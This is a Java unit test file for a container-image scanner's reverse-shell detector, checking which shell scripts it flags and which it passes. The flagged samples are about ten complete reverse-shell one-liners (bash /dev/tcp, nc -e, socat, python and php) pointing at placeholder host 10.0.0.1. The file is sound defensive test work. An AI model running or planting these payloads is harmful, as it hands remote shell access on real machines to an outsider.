package dev.lazaret.check.builtin;

import static dev.lazaret.image.TestArchives.image;
import static dev.lazaret.image.TestArchives.layer;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.check.Inspected;
import dev.lazaret.finding.Finding;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ReverseShellTest {
  private static List<Finding> find(String script) {
    return Inspected.findings(
        new ReverseShell(), image().layer(layer().file("opt/run.sh", "#!/bin/sh\n" + script)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/10.0.0.1/4242\ncat <&5 | while read line; do $line 2>&5 >&5; done",
        "nc -e /bin/sh 10.0.0.1 4242",
        "ncat 10.0.0.1 4242 -e /bin/bash",
        "nc -lvpe /bin/sh 4242",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
        "socat TCP:10.0.0.1:4242 EXEC:'/bin/bash',pty,stderr",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
            + "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
        "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
      })
  void seesAShellThatSomebodyOutsideGets(String script) {
    assertThat(find(script)).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1 && exit 0",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.0\\r\\n' >&3; grep 200 <&3",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo GET / >&3; cat <&3",
        "while ! nc -z db 5432; do sleep 1; done; exec su -c /bin/sh",
        "# bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "socat TCP-LISTEN:80,fork TCP:10.0.0.1:8080",
        "sync -e /bin/sh",
        "docker run -it image sh -i"
      })
  void askingWhetherAPortAnswersAndForwardingAreNone(String script) {
    assertThat(find(script)).isEmpty();
  }

  @Test
  void manualsMayExplainIt() {
    var layer = layer().file("usr/share/doc/nc/README", "nc -e /bin/sh 10.0.0.1 4242\n");

    assertThat(Inspected.findings(new ReverseShell(), image().layer(layer))).isEmpty();
  }
}
